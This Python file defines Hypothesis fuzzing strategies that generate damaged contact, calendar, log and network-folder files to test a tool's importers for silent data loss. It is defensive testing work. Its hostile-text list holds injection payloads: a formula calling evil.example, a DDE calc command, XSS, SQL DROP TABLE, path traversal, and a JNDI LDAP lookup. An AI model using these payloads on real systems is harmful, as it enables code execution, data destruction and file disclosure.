"""Hypothesis strategies that fuzz every importer and the network folder (issue 15).

Each importer strategy draws a :class:`FuzzInput`: the bytes of one foreign
file as its program writes it (a LinkedIn ``Connections.csv``, a vCard file,
a Google or Outlook CSV, a calendar, an interaction log), filled with
hostile text (formulas, markup, control characters, other scripts, quotes,
separators, line breaks, huge fields) and extreme dates, then damaged:
truncated, bytes flipped, quotes unbalanced, lines dropped, doubled or
blanked, columns duplicated or left out, re-encoded (UTF-8 with or without
BOM, UTF-16, Windows-1252), line ends changed.

Every record carries a unique marker and is followed through the damage:
:attr:`FuzzInput.intact` lists the input line of each record the damage left
whole (its exact text still starts a line of the file, below an intact
header). The reader must account for each of them -- read it, or skip it
naming that line -- whatever happened around it; that is how the harness
(``tests/test_reliability.py``, ``bench/fuzz.py``) finds silent loss.

:func:`folders` draws the files of a network folder the same way (ids,
references, dates, channels, settings, encodings and damage).
"""

from __future__ import annotations

import csv
import datetime
import io
from dataclasses import dataclass, field
from pathlib import Path

from hypothesis import strategies as st

FIXTURES = Path(__file__).parent / "fixtures"

#: Text that has broken programs before: formulas, markup, injections, controls, scripts.
HOSTILE_TEXT: tuple[str, ...] = (
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1",
    "'=x",
    "''@y",
    "<script>alert(1)</script>",
    "Bob src=//cdn.example/x.js",
    '"><img src=x onerror=alert(1)>',
    "'; DROP TABLE contacts; --",
    "../../etc/passwd",
    "a/b",
    "..",
    "\u202eevil\u202c",
    "zero\u200bwidth\ufeff",
    "e\u0301cole",
    "😀👍🏽",
    "名字 王",
    "اسم عربي",
    "a;b;c",
    "a,b,c",
    'say "hi"',
    '"',
    '""',
    "line one\nline two",
    "cr\rcr",
    "\\N",
    "NULL",
    "N/A",
    "nan",
    "None",
    "",
    " ",
    "nul\x00byte",
    "bell\x07",
    "\x1b[31mred\x1b[0m",
    "del\x7f",
    "c1\x85next",
    "{{7*7}}",
    "${jndi:ldap://x.example/a}",
    "%s%n%x",
    "BEGIN:VCARD",
    "END:VEVENT",
    "#comment",
    "A" * 300,
)

#: Dates that lie outside what pandas or the folder can hold, or are not dates at all.
EXTREME_DAYS: tuple[str, ...] = (
    "1677-09-21",
    "1700-01-01",
    "1899-12-31",
    "0001-01-01",
    "9999-12-31",
    "2099-01-01",
    "2262-04-12",
    "2024-02-30",
    "2024-13-01",
    "",
    "soon",
)

_LINE_BREAKS = ("\n", "\r\n")


_HUGE = st.builds(
    lambda n, brk: "x" * n + ("\n" if brk else "") + "tail",
    st.integers(131_000, 140_000),
    st.booleans(),
)
_PLAIN = st.sampled_from(("Ann", "Bob Lee", "María José", "O'Neil", "van der Berg", "Acme, Inc."))
_ANY = st.text(st.characters(blacklist_categories=("Cs",)), max_size=24)

#: Hostile text (half), ordinary text, any text, or (one in a thousand) a field over 128 KiB.
text_values = st.integers(0, 999).flatmap(
    lambda k: (
        _HUGE
        if k == 0
        else st.sampled_from(HOSTILE_TEXT)
        if k <= 500
        else _PLAIN
        if k <= 750
        else _ANY
    )
)


#: Ordinary names (so that most records are readable, and merges happen).
names = st.sampled_from(
    ("Ann Lee", "Bob Ray", "Cy Ng", "Dana Okafor", "Émile Zola", "王 伟", "Li", "J. R. Smith", "")
)


@dataclass
class FuzzInput:
    """One fuzzed input file, what it holds, and what was done to it."""

    #: the importer: linkedin, vcard, google, ics or interactions
    kind: str
    #: the file name to write it under
    name: str
    #: the bytes of the file
    data: bytes
    #: ``(input line, marker)`` of every record the damage left whole
    intact: tuple[tuple[int, str], ...]
    #: how many records were written before the damage
    written: int
    #: options for :func:`tiegraph.importing.import_into`
    options: dict[str, object] = field(default_factory=dict)
    #: what was done to the file
    mutations: tuple[str, ...] = ()

    def write(self, folder: Path) -> Path:
        """Write the file into ``folder``; return its path."""
        path = folder / self.name
        path.write_bytes(self.data)
        return path

    def describe(self) -> str:
        """Return a one-line description (kind, damage, size) for reports."""
        return f"{self.kind} {self.name} {len(self.data)} bytes: {', '.join(self.mutations) or '-'}"


# ---------------------------------------------------------------------------
# damage


@st.composite
def _damaged(
    draw: st.DrawFn,
    kind: str,
    name: str,
    head: str,
    records: list[tuple[str, str]],
    tail: str = "",
    *,
    options: dict[str, object] | None = None,
    head_matters: bool = True,
    encodings: tuple[str, ...] = ("utf-8", "utf-8-sig", "utf-16", "cp1252"),
) -> FuzzInput:
    """Damage ``head + records + tail`` and return the input with its intact records.

    ``records`` are ``(text, marker)`` with each text ending in a line break.
    """
    text = head + "".join(t for t, _ in records) + tail
    mutations: list[str] = []
    for _ in range(draw(st.integers(0, 3))):
        what = draw(
            st.sampled_from(
                (
                    "truncate",
                    "flip",
                    "quote",
                    "delete",
                    "drop_line",
                    "double_line",
                    "blank_lines",
                    "huge_field",
                    "swap_lines",
                )
            )
        )
        if not text:
            break
        pos = draw(st.integers(0, len(text) - 1))
        lines = text.split("\n")
        at = draw(st.integers(0, len(lines) - 1))
        if what == "truncate":
            text = text[:pos]
        elif what == "flip":
            ch = draw(
                st.sampled_from(('"', ",", ";", "\n", "\r", "\x00", "\t", ":", "=", "é", "\\"))
            )
            text = text[:pos] + ch + text[pos + 1 :]
        elif what == "quote":
            text = text[:pos] + '"' + text[pos:]
        elif what == "delete":
            text = text[:pos] + text[pos + 1 :]
        elif what == "drop_line":
            del lines[at]
            text = "\n".join(lines)
        elif what == "double_line":
            lines.insert(at, lines[at])
            text = "\n".join(lines)
        elif what == "blank_lines":
            lines.insert(at, "")
            text = "\n".join(lines)
        elif what == "huge_field":
            text = text[:pos] + "z" * draw(st.integers(131_000, 135_000)) + text[pos:]
        else:  # swap two lines
            other = draw(st.integers(0, len(lines) - 1))
            lines[at], lines[other] = lines[other], lines[at]
            text = "\n".join(lines)
        mutations.append(what)
    encoding = draw(st.sampled_from(encodings))
    if encoding != "utf-8":
        mutations.append(encoding)
    # what the file holds once encoded (Windows-1252 replaces what it cannot hold)
    # what the file holds once encoded (Windows-1252 replaces what it cannot hold), with line
    # ends as the readers count them (CR LF, CR CR LF and a CR alone are one line end each)
    stored = _as_read(text, encoding)
    intact: list[tuple[int, str]] = []
    if not head_matters or stored.startswith(_as_read(head, encoding)):
        cursor = len(_as_read(head, encoding)) if head_matters else 0
        for rec, marker in records:
            rec = _as_read(rec, encoding)
            at_ = stored.find(rec, cursor)
            if at_ < 0 or (at_ > 0 and stored[at_ - 1] != "\n"):
                continue
            blank = len(rec) - len(rec.lstrip("\n"))  # a record whose text starts a line later
            intact.append((stored.count("\n", 0, at_) + 1 + blank, marker))
            cursor = at_ + len(rec)
    if draw(st.booleans()):
        mutations.append("crlf")
        text = text.replace("\n", "\r\n")
    data = text.encode(encoding, "replace")
    if encoding == "utf-8" and data and draw(st.integers(0, 4)) == 0:
        # raw bytes that are not UTF-8, inside one line (that line is no longer whole)
        junk = draw(st.sampled_from((b"\xff", b"\xc3", b"\xe2\x82", b"\x80\x80", b"\xed\xa0\x80")))
        cut = draw(st.integers(0, len(data)))
        while cut and data[cut - 1 : cut] == b"\r":
            cut -= 1  # not between the CRs and LF of one line end (that would make two)
        line = _as_read(data[:cut].decode("utf-8", "replace"), "utf-8").count("\n") + 1
        data = data[:cut] + junk + data[cut:]
        intact = [(li, m) for li, m in intact if li != line]
        mutations.append("bad_bytes")
    return FuzzInput(
        kind=kind,
        name=name,
        data=data,
        intact=tuple(intact),
        written=len(records),
        options=dict(options or {}),
        mutations=tuple(mutations),
    )


def _as_read(text: str, encoding: str) -> str:
    """Return ``text`` as a reader sees it once stored in ``encoding``."""
    text = text.encode(encoding, "replace").decode(encoding).lstrip("\ufeff")
    return text.replace("\r\r\n", "\n").replace("\r\n", "\n").replace("\r", "\n")


def _csv_line(values: list[str], delimiter: str = ",") -> str:
    """One CSV record as spreadsheets write it: a field with a CR or LF is quoted too."""
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\r\n").writerow(values)
    return buf.getvalue()[:-2] + "\n"


# ---------------------------------------------------------------------------
# LinkedIn Connections.csv

_LINKEDIN_HEADERS = (
    ["First Name", "Last Name", "URL", "Email Address", "Company", "Position", "Connected On"],
    ["First Name", "Last Name", "Email Address", "Company", "Position", "Connected On"],
    ["FirstName", "LastName", "EmailAddress", "Company", "Position", "ConnectedOn", "Tags"],
)
_LINKEDIN_PREAMBLE = (
    'Notes:\n"When exporting your connection data, you may notice that some of the email '
    'addresses are missing."\n\n'
)
_LINKEDIN_DATES = ("%d %b %Y", "%Y-%m-%d", "%d-%b-%y", "%m/%d/%y", "%d.%m.%Y")


@st.composite
def linkedin_files(draw: st.DrawFn) -> FuzzInput:
    """Draw a LinkedIn ``Connections.csv``, damaged."""
    header = list(draw(st.sampled_from(_LINKEDIN_HEADERS)))
    if draw(st.integers(0, 5)) == 0:
        header.append(draw(st.sampled_from(header)))  # a duplicated column
    if draw(st.integers(0, 5)) == 0 and len(header) > 3:
        header.remove(draw(st.sampled_from(header[2:])))  # a missing column
    delimiter = draw(st.sampled_from((",", ",", ";")))
    head = (_LINKEDIN_PREAMBLE if draw(st.booleans()) else "") + _csv_line(header, delimiter)
    records = []
    for i in range(draw(st.integers(0, 8))):
        marker = f"fz{i}"
        row = []
        for col in header:
            key = col.lower().replace(" ", "")
            if key == "firstname":
                row.append(draw(st.one_of(names, text_values)))
            elif key == "lastname":
                row.append(marker)
            elif key == "url":
                row.append(f"https://www.linkedin.com/in/{marker}")
            elif key == "emailaddress":
                row.append(draw(st.sampled_from((f"{marker}@example.org", "", "N/A", "x@"))))
            elif key == "connectedon":
                day = draw(st.dates())
                form = draw(st.sampled_from(_LINKEDIN_DATES))
                row.append(
                    draw(st.one_of(st.just(day.strftime(form)), st.sampled_from(EXTREME_DAYS)))
                )
            else:
                row.append(draw(text_values))
        records.append((_csv_line(row, delimiter), marker))
    return draw(_damaged("linkedin", "Connections.csv", head, records))


# ---------------------------------------------------------------------------
# Google / Outlook CSV


def _fixture_header(name: str) -> list[str]:
    text = (FIXTURES / "google" / name).read_bytes().decode("utf-8", "replace")
    return next(csv.reader([text.split("\n", 1)[0].strip("\r\ufeff")]))


_GOOGLE_HEADERS = {name: _fixture_header(name) for name in ("google_csv.csv", "outlook.csv")}


@st.composite
def google_files(draw: st.DrawFn) -> FuzzInput:
    """Draw a Google Contacts CSV or an Outlook CSV, damaged."""
    header = list(_GOOGLE_HEADERS[draw(st.sampled_from(sorted(_GOOGLE_HEADERS)))])
    if draw(st.integers(0, 5)) == 0:
        header.append(draw(st.sampled_from(header)))
    head = _csv_line(header)
    records = []
    for i in range(draw(st.integers(0, 6))):
        marker = f"fz{i}"
        row = []
        for col in header:
            low = col.lower()
            if low in ("first name",):
                row.append(draw(st.one_of(names, text_values)))
            elif low == "last name":
                row.append(marker)
            elif "e-mail" in low and ("value" in low or low.endswith("address")):
                row.append(draw(st.sampled_from((f"{marker}@example.org", "", "N/A"))))
            elif "phone" in low and ("value" in low or low.endswith("phone")):
                row.append(draw(st.sampled_from(("", "+1 415 555 0100", "555-0100", "=1+1"))))
            elif "birthday" in low:
                row.append(draw(st.sampled_from(EXTREME_DAYS)))
            elif draw(st.integers(0, 3)) == 0:
                row.append(draw(text_values))
            else:
                row.append("")
        if draw(st.integers(0, 6)) == 0:
            row = row[: draw(st.integers(1, len(row)))]  # a short row, as Outlook writes some
        records.append((_csv_line(row), marker))
    return draw(_damaged("google", "contacts.csv", head, records))


# ---------------------------------------------------------------------------
# vCard


def _vcard_escape(text: str) -> str:
    return (
        text.replace("\\", "\\\\")
        .replace("\r\n", "\\n")
        .replace("\n", "\\n")
        .replace("\r", "\\n")
        .replace(",", "\\,")
        .replace(";", "\\;")
    )


def _fold(line: str) -> str:
    out = []
    while len(line) > 75:
        out.append(line[:75])
        line = " " + line[75:]
    out.append(line)
    return "\n".join(out) + "\n"


@st.composite
def vcard_files(draw: st.DrawFn) -> FuzzInput:
    """Draw a vCard file (2.1, 3.0 or 4.0), damaged."""
    records = []
    for i in range(draw(st.integers(0, 6))):
        marker = f"fz{i}"
        version = draw(st.sampled_from(("2.1", "3.0", "4.0")))
        lines = ["BEGIN:VCARD", f"VERSION:{version}"]
        name = draw(st.one_of(names, text_values))
        if draw(st.booleans()):
            lines.append(f"FN:{_vcard_escape(name)} {marker}")
        else:
            lines.append(f"N:{marker};{_vcard_escape(name)};;;")
        if version == "2.1" and draw(st.booleans()):
            qp = draw(st.sampled_from(("=C3=A9", "=C3", "=E2=82", "=0A=0Dx", "=ZZ", "a=\n=41")))
            lines.append(f"NOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=UTF-8:{qp}")
        if draw(st.booleans()):
            lines.append(f"EMAIL;TYPE=INTERNET:{marker}@example.org")
        if draw(st.booleans()):
            lines.append(f"TEL;TYPE=CELL:{draw(st.sampled_from(('+1 415 555 0100', 'x', '=1')))}")
        for prop in ("ORG", "TITLE", "NOTE", "CATEGORIES"):
            if draw(st.booleans()):
                lines.append(f"{prop}:{_vcard_escape(draw(text_values))}")
        if draw(st.integers(0, 3)) == 0:
            lines.append("CATEGORIES:a,a,b")
        if draw(st.integers(0, 3)) == 0:
            lines.append(f"BDAY:{draw(st.sampled_from(EXTREME_DAYS))}")
        if draw(st.integers(0, 3)) == 0:
            b64 = draw(st.sampled_from(("QW5u", "QW5", "!!!", "")))
            lines.append(f"PHOTO;ENCODING=b;TYPE=JPEG:{b64}")
        if draw(st.integers(0, 4)) == 0:
            lines.append(f"X-ABRELATEDNAMES;TYPE=spouse:{_vcard_escape(draw(text_values))}")
        lines.append("END:VCARD")
        records.append(("".join(_fold(line) for line in lines), marker))
    return draw(_damaged("vcard", "contacts.vcf", "", records, head_matters=False))


# ---------------------------------------------------------------------------
# calendars

_ICS_STARTS = (
    "20240105T150000Z",
    "20240105",
    "16010101T000000Z",
    "17000101T000000Z",
    "99991231T235959Z",
    "20990101T000000Z",
    "20241301T000000Z",
    "2024010",
    "",
)
_RRULES = ("FREQ=WEEKLY;COUNT=3", "FREQ=DAILY;UNTIL=99991231T000000Z", "FREQ=MONTHLY;COUNT=x", "")


#: iCalendar escapes TEXT values as vCard does (RFC 5545 3.3.11, RFC 6350 3.4)
_ics_escape = _vcard_escape


@st.composite
def ics_files(draw: st.DrawFn) -> FuzzInput:
    """Draw a calendar (``.ics``) of meetings, damaged."""
    head = "BEGIN:VCALENDAR\nVERSION:2.0\nPRODID:-//fuzz//EN\n"
    if draw(st.booleans()):
        head += "X-WR-CALNAME:me@example.org\nX-WR-TIMEZONE:Europe/Berlin\n"
    records = []
    for i in range(draw(st.integers(0, 6))):
        marker = f"fz{i}"
        start = draw(st.sampled_from(_ICS_STARTS))
        tz = draw(st.sampled_from(("", ";TZID=Europe/Berlin", ";TZID=Nowhere/Else", ';TZID=""')))
        lines = ["BEGIN:VEVENT", f"UID:{marker}@fuzz"]
        if start:
            value = ";VALUE=DATE" if len(start) == 8 else tz if not start.endswith("Z") else ""
            lines.append(f"DTSTART{value}:{start}")
        rrule = draw(st.sampled_from(_RRULES))
        if rrule:
            lines.append(f"RRULE:{rrule}")
        lines.append(f"SUMMARY:{_ics_escape(draw(text_values))}")
        if draw(st.booleans()):
            lines.append(f"DESCRIPTION:{_ics_escape(draw(text_values))}")
        lines.append("ORGANIZER;CN=Me:mailto:me@example.org")
        for j in range(draw(st.integers(0, 3))):
            cn = _ics_escape(draw(st.one_of(names, text_values))).replace('"', "")
            lines.append(f'ATTENDEE;CN="{cn}";PARTSTAT=ACCEPTED:mailto:{marker}.{j}@example.org')
        if draw(st.integers(0, 4)) == 0:
            lines.append(f"ATTENDEE;CN={_ics_escape(draw(text_values))}:")
        lines.append("END:VEVENT")
        records.append(("".join(_fold(line) for line in lines), marker))
    return draw(
        _damaged(
            "ics",
            "calendar.ics",
            head,
            records,
            "END:VCALENDAR\n",
            options={"me": "me@example.org"},
            head_matters=False,
        )
    )


# ---------------------------------------------------------------------------
# interaction logs

_LOG_TIMES = (
    "1500000000",
    "1500000000.5",
    "1500000000.123456789",
    "1700000000000",
    "9999999999999",
    "-1",
    "inf",
    "nan",
    "1e308",
    "2024-01-05T10:00:00Z",
    "2024-01-05 10:00:00 UTC",
    "1677-09-21",
    "1700-01-01",
    "2099-01-01",
    "",
)


@st.composite
def log_files(draw: st.DrawFn) -> FuzzInput:
    """Draw an interaction log (two people and a time per row), damaged."""
    sep = draw(st.sampled_from((",", ";", "\t", " ")))
    header = draw(st.booleans())
    head = ""
    if draw(st.integers(0, 4)) == 0:
        head += "# a comment line\n"
    if header:
        head += sep.join(("src", "dst", "time", "note")) + "\n"
    people = ("p1", "p2", "p3", "me", "ann@example.org", "Ann Lee")
    records = []
    for i in range(draw(st.integers(0, 8))):
        marker = f"fz{i}"
        src = draw(st.one_of(st.sampled_from(people), text_values))
        dst = draw(st.one_of(st.sampled_from(people), text_values))
        if src.lstrip().startswith(("#", "%")):
            src = "p1"
        when = draw(
            st.one_of(
                st.sampled_from(_LOG_TIMES),
                st.integers(946_684_800, 1_700_000_000).map(str),
            )
        )
        if sep == " ":
            values = [src.replace(" ", "_") or "p1", dst.replace(" ", "_") or "p2", when, marker]
            line = " ".join(v.replace("\n", "_").replace('"', "") or "x" for v in values) + "\n"
        else:
            line = _csv_line([src, dst, when, marker], sep)
        records.append((line, marker))
    options: dict[str, object] = {"me": "me"} if draw(st.booleans()) else {}
    return draw(_damaged("interactions", "log.csv", head, records, options=options))


#: The strategy of each importer kind.
IMPORTERS = {
    "linkedin": linkedin_files(),
    "vcard": vcard_files(),
    "google": google_files(),
    "ics": ics_files(),
    "interactions": log_files(),
}


# ---------------------------------------------------------------------------
# network folders

_IDS = ("ann-lee", "bob-ray", "cy", "dana.o", "e_f", "jürgen")
_BAD_IDS = ("../../x", "a/b", "..", "a b", "a;b", "", "-x", "x" * 120)
_CHANNELS = ("call", "in_person", "video", "message", "email", "social", "Call", "fax", "")


@dataclass
class FuzzFolder:
    """The files of one fuzzed network folder."""

    files: dict[str, bytes]
    mutations: tuple[str, ...] = ()

    def write(self, folder: Path) -> Path:
        """Write the files into ``folder`` (created); return it."""
        folder.mkdir(parents=True, exist_ok=True)
        for name, data in self.files.items():
            (folder / name).write_bytes(data)
        return folder

    def describe(self) -> str:
        """Return a one-line description for reports."""
        size = sum(map(len, self.files.values()))
        return f"folder {sorted(self.files)} {size} bytes: {', '.join(self.mutations) or '-'}"


_TOML = (
    "",
    '[owner]\nid = "me"\nname = "Alex"\n',
    '[owner]\nid = "a/b"\n',
    "[strength]\nhalf_life_days = -1\n",
    "[strength]\nsaturation = 0\n",
    "[strength]\nsaturation = nan\n",
    "[strength]\nunknown_key = 1\n",
    '[strength]\nhalf_life_days = "auto"\n[strength.channels]\nfax = 0.2\n',
    "[history]\nkeep = -1\n",
    "[graph]\nmax_meeting_size = 0\n",
    '[targets]\norgs = ["Acme", "=1+1"]\n',
    '[identity]\ndefault_region = "ZZ"\n',
    "not toml at all [",
    "[owner\n",
)


def _day(draw: st.DrawFn, sane: bool) -> str:
    today = datetime.date.today()
    fine = st.one_of(
        st.dates(min_value=datetime.date(1990, 1, 1), max_value=today).map(str),
        st.sampled_from(("2024-01-05T10:00:00Z", "2024-01-05T10:00:00.5Z", "")),
    )
    if sane:
        return draw(fine)
    return draw(st.one_of(fine, st.sampled_from(EXTREME_DAYS)))


def _tidy(text: str, *, keep_lines: bool) -> str:
    """Return ``text`` as tiegraph writes a cell: no control characters, one line but notes."""
    text = text.replace("\r\n", "\n").replace("\r", "\n")
    if not keep_lines:
        text = " ".join(text.split("\n"))
    return "".join(ch for ch in text if ch in "\n\t" or not (ord(ch) < 32 or 127 <= ord(ch) < 160))


@st.composite
def folders(draw: st.DrawFn) -> FuzzFolder:
    """Draw the files of a network folder: odd values, broken references, damage.

    Half the folders are *sane*: valid ids, references, dates, channels and
    settings, undamaged, with hostile text only where any text goes (names,
    organisations, notes). The other half break any rule.
    """
    sane = draw(st.booleans())
    ids = list(dict.fromkeys(draw(st.lists(st.sampled_from(_IDS), min_size=0, max_size=5))))
    if not sane and draw(st.integers(0, 3)) == 0:
        ids.append(draw(st.sampled_from(_BAD_IDS)))
    if not sane and ids and draw(st.integers(0, 5)) == 0:
        ids.append(ids[0])  # a duplicate id
    people = [*ids, "me"] if sane else [*ids, "me", "nobody"]

    def pick(good: tuple[str, ...], bad: tuple[str, ...]) -> str:
        return draw(st.sampled_from(good if sane else good + bad))

    rows = {
        "contacts.csv": [
            ["id", "name", "org", "title", "email", "tags", "closeness", "direct", "since", "notes"]
        ]
    }
    for pid in ids:
        name = draw(st.one_of(names, text_values))
        rows["contacts.csv"].append(
            [
                pid,
                (name.strip() or "Someone") if sane else name,
                draw(st.one_of(st.sampled_from(("Acme", "Bolt", "")), text_values)),
                draw(text_values),
                pick(("", f"{pid}@example.org", "a@x.org;b@y.org"), ("bob@",)),
                pick(("", "a;b", "=x"), ()),
                pick(("", "1", "5"), ("6", "x")),
                pick(("", "yes", "no"), ("maybe",)),
                _day(draw, sane),
                draw(text_values),
            ]
        )
    rows["introductions.csv"] = [["person", "met_through", "to", "date", "context"]]
    for _ in range(draw(st.integers(0, 3))):
        person = draw(st.sampled_from(people))
        via = draw(st.sampled_from([p for p in [*people, ""] if not sane or p != person]))
        day = _day(draw, sane) or "2024-01-05"
        rows["introductions.csv"].append([person, via, "", day, draw(text_values)])
    rows["interactions.csv"] = [["date", "with", "by", "channel", "notes"]]
    for _ in range(draw(st.integers(0, 6))):
        with_ = ";".join(
            draw(st.lists(st.sampled_from(people), min_size=1 if sane else 0, max_size=3))
        )
        channel = draw(st.sampled_from(_CHANNELS[:6] if sane else _CHANNELS))
        day = _day(draw, sane) or "2024-01-05"
        rows["interactions.csv"].append([day, with_, "", channel, draw(text_values)])
    if draw(st.booleans()):
        rows["affiliations.csv"] = [["person", "org", "title", "start", "end"]]
        for _ in range(draw(st.integers(0, 3))):
            org = draw(text_values)
            rows["affiliations.csv"].append(
                [
                    draw(st.sampled_from(people)),
                    (org.strip() or "Acme") if sane else org,
                    "",
                    _day(draw, sane),
                    _day(draw, sane),
                ]
            )
    if draw(st.booleans()):
        org, alias = draw(text_values), draw(text_values)
        rows["orgs.csv"] = [["name", "aliases"], [(org.strip() or "Acme") if sane else org, alias]]
    if draw(st.booleans()):
        org, title = draw(text_values), draw(text_values)
        if sane:
            org, title = org.strip() or "Acme", title.strip() or "Organizer"
        rows["jobs.csv"] = [
            ["org", "title", "location", "url", "posted"],
            [org, title, "", "", _day(draw, sane)],
        ]
    mutations: list[str] = []
    files: dict[str, bytes] = {}
    for name, table in rows.items():
        header = table[0]
        if not sane and draw(st.integers(0, 8)) == 0:
            header = [*header, header[0]]
            mutations.append(f"{name}: duplicated column")
        if not sane and draw(st.integers(0, 8)) == 0:
            gone = draw(st.sampled_from(header))
            keep = [i for i, h in enumerate(header) if h != gone]
            table = [[r[i] for i in keep if i < len(r)] for r in table]
            header = table[0]
            mutations.append(f"{name}: no column {gone}")
        if sane:  # what tiegraph itself writes: no control character, one line but in notes
            table = [
                [
                    _tidy(v, keep_lines=h in ("notes", "context"))
                    for h, v in zip(header, r, strict=True)
                ]
                for r in table
            ]
        head = _csv_line(header)
        body = "".join(_csv_line(r) for r in table[1:])
        if sane:
            files[name] = (head + body).encode("utf-8")
            continue
        made = draw(_damaged("folder", name, head, [(body, "")]))
        files[name] = made.data
        mutations += [f"{name}: {m}" for m in made.mutations]
    toml = draw(st.sampled_from(_TOML[:2] if sane else _TOML))
    if toml:
        files["network.toml"] = toml.encode()
    if not sane and draw(st.integers(0, 10)) == 0:
        del files["contacts.csv"]
        mutations.append("no contacts.csv")
    if sane:
        mutations.append("sane")
    return FuzzFolder(files=files, mutations=tuple(mutations))
